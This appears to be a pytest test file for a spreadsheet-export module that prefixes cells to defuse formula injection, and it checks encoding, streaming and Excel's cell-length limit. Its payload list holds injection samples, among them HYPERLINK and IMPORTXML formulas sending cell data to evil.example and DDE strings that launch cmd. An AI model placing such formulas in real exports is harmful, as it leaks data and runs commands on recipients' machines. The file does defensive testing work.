"""No cell of a spreadsheet that leaves the desk can become a formula."""

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from promoflow import sheets

PAYLOADS = [
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "﹣1",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "'=1+1",
    "' =1+1",
    "''=1+1",
    "\ttext",
]
PLAIN = [
    "B0CXK2T8LM",
    "Rain jacket, men's",
    "20 % off",
    "a=b",
    "1-2",
    "mei@example.com",
    "",
    "'quoted'",
    "Ä",
    "雨衣",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_cannot_run(payload):
    assert sheets.harmless(payload) == "'" + payload


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_stays_as_it_is(text):
    assert sheets.harmless(text) == text


@given(st.text())
def test_what_the_desk_wrote_reads_back_as_it_was(text):
    assert sheets.original(sheets.harmless(text)) == text


@given(st.text())
def test_no_written_cell_starts_with_a_sign(text):
    assert sheets.harmless(text).lstrip()[:1] not in set("=+-@＝＋－＠")


def _read(response):
    text = b"".join(response.streaming_content).decode()
    return text, list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def test_numbers_stay_numbers_and_text_is_quoted():
    rows = [["PR-1", Decimal("-12.50"), -3, 1.5, None, True, datetime(2026, 11, 22, tzinfo=UTC)]]

    text, _ = _read(sheets.csv_response("x.csv", ["a"], rows))

    assert text.splitlines()[1] == '"PR-1",-12.50,-3,1.5,"","true","2026-11-22T00:00:00+00:00"'


def test_a_decimal_that_is_no_number_is_text():
    text, _ = _read(sheets.csv_response("x.csv", ["a"], [[Decimal("NaN")], [Decimal("-Infinity")]]))

    assert text.splitlines()[1:] == ['"NaN"', '"\'-Infinity"']


def test_headers_and_lines_inside_a_cell_are_safe_too():
    _, rows = _read(sheets.csv_response("x.csv", ["=name"], [['a"\n=1+1,x']]))

    assert rows == [["'=name"], ['a"\n=1+1,x']]


def test_excel_is_told_the_encoding_and_the_name():
    response = sheets.csv_response("今日 history.csv", ["雨"], [])

    text, _ = _read(response)
    assert text.startswith("\ufeff")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment; filename*=utf-8''%E4%BB%8A")


def test_rows_stream_one_by_one():
    taken = []

    def rows():
        for number in range(3):
            taken.append(number)
            yield [number]

    lines = iter(sheets.csv_response("x.csv", ["n"], rows()).streaming_content)
    next(lines), next(lines)

    assert taken == [0]


def test_a_workbook_never_cuts_a_cell_off():
    """Excel would do so without a word."""
    sheets.workbook_response("a.xlsx", ["All"], [["x" * 32_767]])

    with pytest.raises(ValueError, match="32767"):
        sheets.workbook_response("a.xlsx", ["All"], [["x" * 32_768]])
